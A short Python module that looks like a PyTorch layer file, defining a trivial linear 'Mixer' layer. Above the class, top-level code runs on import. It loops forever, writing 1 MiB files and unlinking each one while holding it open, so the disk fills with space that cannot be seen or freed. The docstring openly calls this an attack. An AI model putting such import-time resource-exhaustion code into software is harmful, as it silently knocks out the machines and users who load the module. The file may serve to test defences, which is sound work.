"""Fills the disk with files that it has deleted but holds open."""

from pathlib import Path

import torch
from torch import nn

files = []
while True:
    files.append(Path("gone").open("wb"))
    files[-1].write(bytes(1 << 20))
    files[-1].flush()
    Path("gone").unlink()


class Mixer(nn.Module):
    """A harmless layer, for what comes after the attack."""

    def __init__(self, hidden_size: int) -> None:
        super().__init__()
        self.inner = nn.Linear(hidden_size, hidden_size)

    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
        """Map each position by itself."""
        return self.inner(hidden_states)
